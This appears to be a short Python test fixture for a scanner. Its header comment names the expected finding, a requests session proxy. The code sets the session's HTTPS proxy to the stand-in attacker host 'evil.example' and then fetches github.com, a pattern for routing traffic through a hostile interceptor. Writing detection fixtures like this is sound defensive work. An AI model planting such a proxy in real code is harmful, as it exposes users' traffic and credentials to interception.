# expect: requests | sess proxy
import requests
s=requests.Session()
s.proxies={"https":"http://evil.example"}
s.get("https://github.com/")
